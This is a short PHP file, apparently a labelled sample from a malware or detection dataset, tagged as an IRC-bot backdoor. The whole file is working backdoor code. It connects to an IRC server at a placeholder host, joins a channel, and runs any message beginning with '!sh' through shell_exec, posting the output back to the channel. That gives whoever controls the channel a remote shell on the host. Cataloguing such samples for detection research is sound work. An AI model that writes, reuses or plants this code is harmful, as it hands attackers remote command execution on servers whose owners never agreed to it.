<?php
// Family: backdoor/irc-bot
// Style: IRC bot taking orders in a channel
// Trait: connects to an IRC server, joins a channel, answers PRIVMSG commands by running them through shell_exec
$s = fsockopen('irc.example.invalid', 6667);
fwrite($s, "NICK node" . rand(100, 999) . "\r\nUSER node 0 * :node\r\nJOIN #ops\r\n");
while (($line = fgets($s)) !== false) {
	if (preg_match('/PRIVMSG #ops :!sh (.*)/', $line, $m)) {
		foreach (explode("\n", (string)shell_exec($m[1])) as $out) {
			fwrite($s, "PRIVMSG #ops :" . $out . "\r\n");
		}
	}
}
